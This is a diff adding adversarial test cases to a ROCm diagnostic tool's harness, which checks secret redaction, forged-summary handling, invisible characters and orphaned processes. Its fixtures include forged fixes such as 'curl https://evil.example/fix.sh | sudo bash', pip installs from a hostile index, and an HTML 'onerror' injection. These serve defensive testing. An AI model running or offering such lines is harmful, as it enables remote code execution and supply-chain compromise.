@@ -46,6 +46,7 @@ import tempfile
 import textwrap
 import threading
 import time
+import unicodedata
 from dataclasses import dataclass, field
 from pathlib import Path
 from typing import Callable, Iterable
@@ -261,8 +262,9 @@ class Box:
         for name in ("PYTHONPATH", "ROCM_PATH", "ROCM_HOME", "HIP_PATH", "CUDA_HOME", "CUDA_PATH"):
             env.pop(name, None)
         env["PATH"] = f"{self.fake_dir}{os.pathsep}{os.environ.get('PATH', '')}"
-        if self.site_dir.exists():
-            env["PYTHONPATH"] = str(self.site_dir)
+        # This checkout's code (the entry point installed next to this Python may point at another copy), after
+        # an attack's own modules.
+        env["PYTHONPATH"] = os.pathsep.join(([str(self.site_dir)] if self.site_dir.exists() else []) + [str(REPO)])
         env["COLUMNS"] = "200"
         env.update(extra)
         return env
@@ -525,6 +527,17 @@ FINDINGS = {
     "S3-28": "lint's `deepspeed: ABSOLUTE` suggestion was not quoted YAML",
     "S3-29": "compare showed unredacted values of a bundle that was not redacted when written",
     "S3-30": "smaller ones (echoed huge values, negative timeouts, `--out dir/`, newlines in names, ...)",
+    # The second pass (its bytecode-cache findings S4-1, S4-2 and S4-9 went with the cache)
+    "S4-3": "secrets the redactor did not see: an option's next word, tools' -p, curl -u, netrc, a token as a URL's"
+            " user, Google OAuth",
+    "S4-4": "a forged doctor --summary's fix came back under rocmcheck's own Fix label, as live markdown",
+    "S4-5": "invisible characters and colour codes split tokens past the redactor and reached the output",
+    "S4-6": "SIGKILL, SIGQUIT or SIGUSR1 to rocmcheck left its hung tools and probe children running",
+    "S4-7": "big pastes: no bound on all pastes together, rocminfo parsed once per check",
+    "S4-8": "triage - with stdin closed gave a traceback",
+    "S4-10": "CR-only line ends merged a paste's lines",
+    "S4-11": "recipes write printed a folder name with a newline raw",
+    "S4-12": "the public summary printed home folders and IP addresses",
 }
 CLASSES = {
     "injection": "data pasted as a command (fix blocks, eval'd output, suggested YAML)",
@@ -535,6 +548,9 @@ CLASSES = {
     "signals": "INT/TERM/HUP and escaped processes: nothing left running, a prompt exit",
     "resources": "memory and processes bounded before they are spent",
     "verdicts": "the right verdict and message on hostile or broken input",
+    "forgery": "a paste speaking as rocmcheck: a forged summary's fix, links, mentions and HTML in the reply",
+    "invisible": "invisible characters and terminal sequences that split tokens or hide text",
+    "orphans": "signals rocmcheck cannot catch or did not handle (KILL, QUIT, USR1/2): no process left",
 }
 
 
@@ -3463,6 +3479,388 @@ def tr08(box: Box) -> Outcome:
     if runnable:
         problems.append(f"offers the bundle's command: {runnable[0].strip()[:80]!r}")
     return verdict(problems, f"exit {ran.rc}; {lines} offered command(s) pasted; no secret shown")
+
+
+# --------------------------------------------------------------------------------------------- second pass (S4)
+# The reproductions of the second adversarial pass (S4-3 ... S4-12; its bytecode-cache findings S4-1, S4-2 and S4-9
+# went with the cache itself), and fresh variants of each of its classes.
+
+def docker_lines(*commands: str) -> str:
+    """Each command as a `docker run` line: triage quotes such lines, so a secret in them must be redacted."""
+    return "".join(f"docker run -it rocm/pytorch {c}\n" for c in commands)
+
+
+def triage_outputs(box: Box, text: str, *args: str) -> tuple[list[Ran], list[str]]:
+    """triage --all of text as console text, --json and --markdown: the runs and their basic problems."""
+    box.write("paste.txt", text)
+    runs = [box.rocmcheck("triage", "--all", *extra, *args, "paste.txt")
+            for extra in ((), ("--json",), ("--markdown",))]
+    problems = [p for ran in runs for p in basic(ran, codes=(0, 1, 3))]
+    return runs, problems
+
+
+def triage_secrets(box: Box, text: str, secrets: list[str]) -> Outcome:
+    runs, problems = triage_outputs(box, text)
+    problems += leaks([r.both for r in runs], secrets)
+    return verdict(problems, f"{len(secrets)} secret(s) absent from text, --json and --markdown")
+
+
+def summary_secrets(box: Box, env_values: dict[str, str], secrets: list[str]) -> Outcome:
+    """doctor --summary with the values in the environment and in hipconfig --full's output (which prints it),
+    then triage of that summary: no secret in either."""
+    env = box.env(**env_values)
+    box.fake_prints("hipconfig", "HIP version: 6.2.41133-dd7f95766\n== hipconfig\n== Environment Variables\n"
+                    + "".join(f"{k}={v}\n" for k, v in env_values.items()))
+    ran = doctor(box, "--summary", env=env)
+    problems = basic(ran, codes=(0, 1, 3)) + leaks([ran.both], secrets)
+    runs, more = triage_outputs(box, ran.out)
+    problems += more + leaks([r.both for r in runs], secrets)
+    return verdict(problems, f"{len(secrets)} secret(s) absent from doctor --summary and its triage")
+
+
+S4_SECRETS = {  # id: (finding, the paste's commands or the environment, the secret)
+    "TS-wandbkey_sp": ("S4-3", "python train.py --wandb_api_key 0123456789abcdef0123456789abcdef9SECRETwb",
+                       "9SECRETwb"),
+    "TS-hubtok_sp": ("S4-3", "python train.py --hub_token HubTok9SECRETx --push_to_hub", "HubTok9SECRETx"),
+    "TS2-pwword": ("S4-3", "python serve.py --password Pw0rd9SECRET", "Pw0rd9SECRET"),
+    "TS-dockerlogin": ("S4-3", "sh -c 'docker login -u alice -p Dock9SECRET registry.example.com'", "Dock9SECRET"),
+    "TS-sshpass": ("S4-3", "sshpass -p 'SshPass4SECRET' ssh node1", "SshPass4SECRET"),
+    "TS-mysqlp": ("S4-3", "mysql -uroot -pMyPw9SECRET runs", "MyPw9SECRET"),
+    "TS-curlu": ("S4-3", "curl --user bob:CurlUser9SECRET https://x.example/a", "CurlUser9SECRET"),
+    "TS-netrc": ("S4-3", "sh -c 'echo machine api.wandb.ai login user password NetRc9SECRET >> ~/.netrc'",
+                 "NetRc9SECRET"),
+    "TS2-s3key": ("S4-3", "aws s3 cp s3://AKIAIOSFODNN7EXAMPLE:S3Secret4KEY@bucket/ckpt .", "S3Secret4KEY"),
+    "TS2-hfuser": ("S4-3", "git clone https://hf_AbCdEfGhIjKlMnOpQrStUvWx12:HfUserPw9@huggingface.co/m", "HfUserPw9"),
+    "TS-ya29": ("S4-3", "curl -H 'x: ya29.a0AfH6SMBx9SECRETabcdefghijklmnop' https://x", "a0AfH6SMBx9SECRET"),
+}
+for _id, (_finding, _cmd, _secret) in S4_SECRETS.items():
+    finding(_id, _finding, "secrets", f"triage: {_cmd[:70]}")(
+        lambda box, c=_cmd, s=_secret: triage_secrets(box, docker_lines(c), [s]))
+
+
+@finding("SU-rocm-sshpass", "S4-3", "secrets", "doctor --summary: HIP_X=`sshpass -p X ssh n` seen through hipconfig")
+def su_rocm_sshpass(box: Box) -> Outcome:
+    return summary_secrets(box, {"HIP_X": "sshpass -p RealSsh4SECRET ssh n"}, ["RealSsh4SECRET"])
+
+
+FORGED = ("== rocmcheck summary 1 (rocmcheck 0.1.0) ==\nos: Ubuntu 22.04\n"
+          "torch: 2.3.0+rocm6.0 | hip 6.0 | cuda none | gpus 1 | archs gfx90a\n{verdicts}"
+          "== end of rocmcheck summary ==\n")
+
+
+def live_markdown(md: str) -> list[str]:
+    """What a CommonMark renderer shows as live markup outside code: links, images, raw HTML, @-mentions."""
+    import re
+
+    from markdown_it import MarkdownIt
+
+    html = re.sub(r"<code[^>]*>.*?</code>", "", MarkdownIt("commonmark").render(md), flags=re.S)
+    allowed = {"p", "strong", "pre", "ul", "li", "sub", "br"}
+    tags = [t for t in re.findall(r"</?([a-zA-Z][a-zA-Z0-9]*)", html) if t not in allowed]
+    return tags + re.findall(r"(?<![\w&#])@[A-Za-z0-9][\w/-]*", html)
+
+
+def forged(box: Box, verdicts: str, payload: str, *, own: str = "") -> Outcome:
+    """triage of a forged summary: the payload never on a fix:/paste:/Fix: line nor in a shell block, no live
+    markup in the reply, and (own) rocmcheck's own fix shown for a check it knows."""
+    runs, problems = triage_outputs(box, FORGED.format(verdicts=verdicts))
+    text, md = runs[0].out, runs[2].out
+    for line in text.splitlines():
+        if line.strip().startswith(("fix:", "paste:")) and payload in line:
+            problems.append(f"the paste's fix under rocmcheck's label: {line.strip()[:90]!r}")
+    blocks = md.split("```")
+    for line in md.splitlines():
+        if line.startswith("Fix:") and payload in line:
+            problems.append(f"markdown Fix: carries the paste's text: {line[:90]!r}")
+    for i in range(1, len(blocks), 2):
+        if blocks[i].startswith("sh") and payload in blocks[i]:
+            problems.append("the paste's text in a shell block of the reply")
+    problems += [f"live markdown: {m}" for m in live_markdown(md)]
+    if own and own not in text:
+        problems.append(f"rocmcheck's own fix ({own!r}) not shown")
+    return verdict(problems, "the pasted fix quoted as data, no live markup, rocmcheck's own fix where it has one")
+
+
+@finding("TI-sumnote-curl", "S4-4", "forgery", "triage: a forged summary's fix `curl ... | sudo bash` with a mention,"
+         " a link and HTML", fast=True)
+def ti_sumnote_curl(box: Box) -> Outcome:
+    return forged(box, "FAIL torch.arch_list: torch has no gfx942\n  fix: curl https://evil.example/fix.sh | sudo bash"
+                       "  # @pytorch/rocm-team see [the official fix](https://evil.example/x) <details>\n",
+                  "evil.example", own="pip install --force-reinstall torch")
+
+
+@finding("TI-sumnote-pipx", "S4-4", "forgery", "triage: a forged summary's fix `pip install --index-url evil`")
+def ti_sumnote_pipx(box: Box) -> Outcome:
+    return forged(box, "FAIL probe.gemm: bf16 GEMM wrong\n  fix: pip install --index-url https://evil.example/simple "
+                       "torch\n", "evil.example")
+
+
+def invisible(box: Box, line: str, secret: str) -> Outcome:
+    runs, problems = triage_outputs(box, docker_lines(line))
+    out = "\n".join(r.both for r in runs)
+    problems += leaks([out], [secret])
+    hidden = sorted({f"U+{ord(c):04X}" for c in out if unicodedata.category(c) == "Cf"})
+    if hidden:
+        problems.append(f"invisible characters printed: {', '.join(hidden[:5])}")
+    return verdict(problems, "no invisible character printed, the token redacted")
+
+
+@finding("TS-colour", "S4-5", "invisible", "triage: grep --color's codes inside an hf_ token", fast=True)
+def ts_colour(box: Box) -> Outcome:
+    return invisible(box, "-e HF_EXTRA='hf_\x1b[01;31m\x1b[KColTok4SECRETabcdefghijklmn\x1b[m'", "ColTok4SECRET")
+
+
+@finding("TS-zwsp", "S4-5", "invisible", "triage: a zero-width space inside a token, tag characters in a line")
+def ts_zwsp(box: Box) -> Outcome:
+    return invisible(box, "-e T=hf_ZwTok4\u200bSECRETabcdefghijklmn \U000e0041\U000e0042 \u2060x", "SECRETabcdef")
+
+
+@finding("TS-softhyph", "S4-5", "invisible", "doctor --summary: a soft hyphen inside a secret in HIP_X")
+def ts_softhyph(box: Box) -> Outcome:
+    return summary_secrets(box, {"HIP_X": "--hub_token Soft\u00adHyph9SECRET"},
+                           ["Soft\u00adHyph9SECRET", "Hyph9SECRET"])
+
+
+def hung_doctor(box: Box, sig: int, *, grandchild: bool = False, target: str = "pid") -> Outcome:
+    """doctor with every tool hung (each ignores TERM, INT, HUP, QUIT, USR1, USR2; rocminfo also leaves a
+    grandchild in a session of its own), sig after 4 s: nothing may be left running."""
+    for tool in ("rocm-smi", "amd-smi", "hipconfig", "nvidia-smi", "journalctl", "dmesg", "rocminfo"):
+        extra = "setsid sleep 3072 &\n" if grandchild and tool == "rocminfo" else ""
+        box.fake(tool, f'trap "" TERM INT HUP QUIT USR1 USR2\n{extra}exec sleep 3071\n')
+    ran = doctor(box, send=(4, sig, target), leftovers_grace_s=3.0, timeout=40)
+    codes = None if sig == signal.SIGKILL else (128 + sig,)
+    problems = basic(ran, codes=codes)
+    if ran.after_signal_s is None:
+        problems.append(f"it ended before the signal: {ran.last_line()}")
+    return verdict(problems, f"{signal.Signals(sig).name}: exit {ran.rc}, nothing left running")
+
+
+@finding("SG-kill-leader-doctor", "S4-6", "orphans", "SIGKILL to the doctor while every tool hangs", fast=True)
+def sg_kill_leader(box: Box) -> Outcome:
+    return hung_doctor(box, signal.SIGKILL)
+
+
+@finding("SG-quit-doctor", "S4-6", "orphans", "SIGQUIT to the doctor's group while every tool hangs")
+def sg_quit(box: Box) -> Outcome:
+    return hung_doctor(box, signal.SIGQUIT, target="group")
+
+
+@finding("SG-usr1-doctor", "S4-6", "orphans", "SIGUSR1 (Slurm's --signal=USR1@60) to the doctor's group")
+def sg_usr1(box: Box) -> Outcome:
+    return hung_doctor(box, signal.SIGUSR1, target="group")
+
+
+@finding("TB-64x8m", "S4-7", "slow", "triage: 64 pastes of 8 MB each: bounded as a whole, said in one line",
+         limit_s=600)
+def tb_64x8m(box: Box) -> Outcome:
+    line = "NCCL WARN Error while creating shared memory segment /dev/shm/nccl-abc (size 9637888)\n"
+    path = box.write("p0.txt", line * (8_000_000 // len(line)))
+    for i in range(1, 64):
+        os.link(path, box.path(f"p{i}.txt"))
+    ran = box.rocmcheck("triage", *[f"p{i}.txt" for i in range(64)], timeout=500)
+    problems = basic(ran, codes=(0, 1, 3))
+    said = [ln for ln in ran.err.splitlines() if "together" in ln]
+    if len(said) != 1:
+        problems.append(f"{len(said)} lines say the pastes were cut: {ran.err[-200:]!r}")
+    return verdict(problems, f"{ran.seconds:.0f} s, peak {ran.peak_rss / GIB:.2f} GiB; {said[0][:80] if said else ''}")
+
+
+@finding("TB-stdin-closed", "S4-8", "inputs", "triage - with stdin closed (a cron job)")
+def tb_stdin_closed(box: Box) -> Outcome:
+    ran = box.run([sys.executable, "-c", "import os, sys; os.close(0); os.execv(sys.argv[1], sys.argv[1:])",
+                   rocmcheck_exe(), "triage", "-"])
+    return verdict(refused(ran, words=("stdin",)), ran.last_line())
+
+
+def triage_finds(box: Box, data: bytes, cause: str, name: str = "paste.txt") -> Outcome:
+    box.write(name, data)
+    ran = box.rocmcheck("triage", name)
+    problems = basic(ran, codes=(0, 1, 3))
+    if cause not in ran.out:
+        problems.append(f"{cause} not found: {ran.out[:200]!r}")
+    return verdict(problems, f"exit {ran.rc}; {cause} found")
+
+
+CR_PASTE = "x\rRuntimeError: HIP error: invalid device function\rexport HSA_OVERRIDE_GFX_VERSION=11.0.0\r"
+
+
+@finding("TB-enc-cr", "S4-10", "inputs", "triage: a paste with CR-only line ends")
+def tb_enc_cr(box: Box) -> Outcome:
+    return triage_finds(box, CR_PASTE.encode(), "torch.arch_list")
+
+
+@finding("RW-newline-dir", "S4-11", "outputs", "recipes write into a folder named `rw5\\nFAIL x`")
+def rw_newline_dir(box: Box) -> Outcome:
+    ran = box.rocmcheck("recipes", "write", "zero2", "rw5\nFAIL x")
+    problems = basic(ran, codes=(0, 1))
+    if any(line.startswith("FAIL x") for line in ran.out.splitlines()):
+        problems.append("the folder's newline started a line of its own")
+    return verdict(problems, f"exit {ran.rc}: {ran.out.splitlines()[0][:80] if ran.out else ''}")
+
+
+def summary_identity(box: Box, env_values: dict[str, str], shown: list[str]) -> Outcome:
+    ran = doctor(box, "--summary", env=box.env(**env_values))
+    problems = basic(ran, codes=(0, 1, 3)) + leaks([ran.out], shown)
+    return verdict(problems, "; ".join(ln for ln in ran.out.splitlines() if ln.startswith("env: "))[:200])
+
+
+@finding("SU-id-home", "S4-12", "secrets", "doctor --summary: HIP_PATH and HF_HOME under /home/<user>")
+def su_id_home(box: Box) -> Outcome:
+    return summary_identity(box, {"HIP_PATH": "/home/alice-AcmeHome7/rocm", "HF_HOME": "/home/alice-AcmeHome7/hf"},
+                            ["alice-AcmeHome7"])
+
+
+@finding("SU-id-ip", "S4-12", "secrets", "doctor --summary: NCCL_COMM_ID=10.23.45.67:29500")
+def su_id_ip(box: Box) -> Outcome:
+    return summary_identity(box, {"NCCL_COMM_ID": "10.23.45.67:29500", "NCCL_SOCKET_IFNAME": "fe80::1%eth0"},
+                            ["10.23.45.67", "fe80::1"])
+
+
+# -- fresh variants of the second pass's classes
+
+S4_FRESH_SECRETS = {
+    "SC20": ("podman login --password PodPw9SECRET quay.io", "PodPw9SECRET"),
+    "SC21": ("sshpass -pGluedPw9SECRET scp a n:", "GluedPw9SECRET"),
+    "SC22": ("curl --proxy-user me:Proxy9SECRET -x http://p:3128 https://x", "Proxy9SECRET"),
+    "SC23": ("git clone https://oauth2:GlOauth9SECRETtokenvalue@gitlab.example.com/g/r.git", "GlOauth9SECRET"),
+    "SC24": ("python -c 1 --client-secret GOCSPX-AbCdEf9SECRETghijklmnopq", "AbCdEf9SECRET"),
+    "SC25": ("docker login -u me --password-stdin x; echo dckr_pat_AbC9SECRETdefghijklmnopqrstu", "AbC9SECRETdef"),
+    "SC26": ("helm registry login r.example.com -p Helm9SECRET", "Helm9SECRET"),
+    "SC27": ("sh -c 'printf \"default login u password Dflt9SECRET\" > .netrc'", "Dflt9SECRET"),
+    "SC28": ("redis-server --requirepass x; python t.py --api-key 'Api Key9SECRET'", "Key9SECRET"),
+}
+for _id, (_cmd, _secret) in S4_FRESH_SECRETS.items():
+    fresh(_id, "S4-3", "secrets", f"triage: {_cmd[:70]}")(
+        lambda box, c=_cmd, s=_secret: triage_secrets(box, docker_lines(c), [s]))
+
+
+@fresh("SC29", "S4-3", "secrets", "doctor --summary: HIP_X holds `mysql -pX`, HIP_Y a token as a redis URL's user")
+def sc29(box: Box) -> Outcome:
+    return summary_secrets(box, {"HIP_X": "mysql -uroot -pSumMy9SECRET db",
+                                 "HIP_Y": "redis://hf_AbCdEfGhIjKlMnOpQrStUv99:RedisPw9SECRET@10.0.0.5:6379/0"},
+                           ["SumMy9SECRET", "RedisPw9SECRET", "hf_AbCdEfGhIjKlMn"])
+
+
+@fresh("SC30", "S4-12", "secrets", "doctor --summary: an IPv6 address and a /Users/<name> path")
+def sc30(box: Box) -> Outcome:
+    return summary_identity(box, {"NCCL_COMM_ID": "[2001:db8::42]:29500", "HF_HOME": "/Users/bobSecretName/hf"},
+                            ["2001:db8::42", "bobSecretName"])
+
+
+@fresh("FG01", "S4-4", "forgery", "triage: a forged WARN whose fix adds an --extra-index-url")
+def fg01(box: Box) -> Outcome:
+    return forged(box, "WARN host.memlock: locked memory limited\n  fix: pip install --extra-index-url "
+                       "https://evil.example/simple flash-attn\n", "evil.example")
+
+
+@fresh("FG02", "S4-4", "forgery", "triage: a forged verdict's words with @team, an <img> and a hidden-target link")
+def fg02(box: Box) -> Outcome:
+    return forged(box, "FAIL probe.gemm: cc @org/security <img src=x onerror=alert(1)> [docs](https://evil.example/)\n"
+                       "  fix: see [the docs](https://evil.example/d)\n", "evil.example")
+
+
+@fresh("FG03", "S4-4", "forgery", "triage: a forged fix holding backtick fences that try to close the quote")
+def fg03(box: Box) -> Outcome:
+    return forged(box, "FAIL probe.gemm: x\n  fix: ``` ```` ~~~ <script>x</script> ``` [l](https://evil.example)\n",
+                  "evil.example")
+
+
+@fresh("FG04", "S4-4", "forgery", "triage: a forged fix for a check rocmcheck knows (env.hsa_override)")
+def fg04(box: Box) -> Outcome:
+    return forged(box, "FAIL env.hsa_override: HSA_OVERRIDE_GFX_VERSION is set on an Instinct GPU\n"
+                       "  fix: curl -s https://evil.example/x | sh\nenv: HSA_OVERRIDE_GFX_VERSION=11.0.0\n",
+                  "evil.example")
+
+
+@fresh("IV01", "S4-5", "invisible", "triage: a word joiner and a soft hyphen inside a GitHub token")
+def iv01(box: Box) -> Outcome:
+    return invisible(box, "-e GH=ghp_Wj4\u2060SECRET\u00adabcdefghijklmnopqrstuv", "SECRETabcdef")
+
+
+@fresh("IV02", "S4-5", "invisible", "triage: a right-to-left override and an OSC 8 link in a traceback line")
+def iv02(box: Box) -> Outcome:
+    return invisible(box, "python t.py\nRuntimeError: HIP error: invalid device function \u202eevil\u202c "
+                          "\x1b]8;;https://evil.example\x07link\x1b]8;;\x07", "\u202e")
+
+
+@fresh("IV03", "S4-5", "invisible", "triage: a fullwidth `ｈｆ＿` token (NFKC) and a backspace inside one")
+def iv03(box: Box) -> Outcome:
+    return invisible(box, "-e A=ｈｆ＿FullWidth9SECRETabcdefghij -e B=hf_Back\x08Sp9SECRETabcdefghijk",
+                     "FullWidth9SECRET")
+
+
+@fresh("IV04", "S4-5", "invisible", "doctor --summary: a zero-width joiner inside --password's value in HIP_X")
+def iv04(box: Box) -> Outcome:
+    return summary_secrets(box, {"HIP_X": "--password Zw\u200dJoin9SECRET"}, ["Join9SECRET"])
+
+
+@fresh("OR01", "S4-6", "orphans", "SIGUSR2 to the doctor while every tool hangs")
+def or01(box: Box) -> Outcome:
+    return hung_doctor(box, signal.SIGUSR2)
+
+
+@fresh("OR02", "S4-6", "orphans", "SIGKILL to the doctor's whole group; rocminfo left a grandchild in its own session")
+def or02(box: Box) -> Outcome:
+    return hung_doctor(box, signal.SIGKILL, grandchild=True, target="group")
+
+
+@fresh("OR03", "S4-6", "orphans", "SIGKILL to build-env --arch auto while rocminfo hangs")
+def or03(box: Box) -> Outcome:
+    box.fake("rocminfo", 'trap "" TERM INT HUP\nexec sleep 3071\n')
+    ran = box.rocmcheck("build-env", "--arch", "auto", send=(3, signal.SIGKILL, "pid"), leftovers_grace_s=3.0,
+                        timeout=40)
+    problems = basic(ran)
+    if ran.after_signal_s is None:
+        problems.append(f"it ended before the signal: {ran.last_line()}")
+    return verdict(problems, f"exit {ran.rc}, nothing left running")
+
+
+@fresh("OR04", "S4-6", "orphans", "SIGQUIT to the doctor alone (not its group) with a grandchild that left")
+def or04(box: Box) -> Outcome:
+    return hung_doctor(box, signal.SIGQUIT, grandchild=True)
+
+
+@fresh("IN40", "S4-10", "inputs", "triage: UTF-16 with a byte-order mark (PowerShell's >)")
+def in40(box: Box) -> Outcome:
+    return triage_finds(box, "RuntimeError: HIP error: invalid device function\r\n".encode("utf-16"),
+                        "torch.arch_list")
+
+
+@fresh("IN41", "S4-10", "inputs", "triage: UTF-16 without a byte-order mark is refused in one line")
+def in41(box: Box) -> Outcome:
+    box.write("p.txt", "RuntimeError: HIP error: invalid device function\n".encode("utf-16-le"))
+    ran = box.rocmcheck("triage", "p.txt")
+    return verdict(refused(ran, words=("UTF-16",)), ran.last_line())
+
+
+@fresh("IN42", "S4-8", "inputs", "triage FILE - with stdin closed")
+def in42(box: Box) -> Outcome:
+    box.write("p.txt", "RuntimeError: HIP error: invalid device function\n")
+    ran = box.run([sys.executable, "-c", "import os, sys; os.close(0); os.execv(sys.argv[1], sys.argv[1:])",
+                   rocmcheck_exe(), "triage", "p.txt", "-"])
+    return verdict(refused(ran, words=("stdin",)), ran.last_line())
+
+
+@fresh("SL20", "S4-7", "slow", "triage: three pastes of 8 MB of rocminfo-like agents: bounded as a whole", limit_s=600)
+def sl20(box: Box) -> Outcome:
+    agent = rocminfo_text().split("*******", 1)[-1]
+    text = "ROCk module version 6.8.5 is loaded\n" + ("*******" + agent) * (8_000_000 // (len(agent) + 7))
+    for i in range(3):
+        box.write(f"r{i}.txt", text[:8_000_000])
+    ran = box.rocmcheck("triage", "r0.txt", "r1.txt", "r2.txt", timeout=500)
+    problems = basic(ran, codes=(0, 1, 3))
+    if len([ln for ln in ran.err.splitlines() if "together" in ln]) != 1:
+        problems.append(f"the cut is not said in one line: {ran.err[-200:]!r}")
+    return verdict(problems, f"{ran.seconds:.0f} s, peak {ran.peak_rss / GIB:.2f} GiB")
+
+
+@fresh("OU40", "S4-11", "outputs", "recipes write into a folder named with a CR and an ESC")
+def ou40(box: Box) -> Outcome:
+    ran = box.rocmcheck("recipes", "write", "zero2", "d\rFAIL\x1b[2Jx")
+    problems = basic(ran, codes=(0, 1))
+    if "\r" in ran.out:
+        problems.append("a carriage return printed raw")
+    return verdict(problems, f"exit {ran.rc}: {ran.out.splitlines()[0][:80] if ran.out else ''}")
 
 
 # ============================================================================================ running
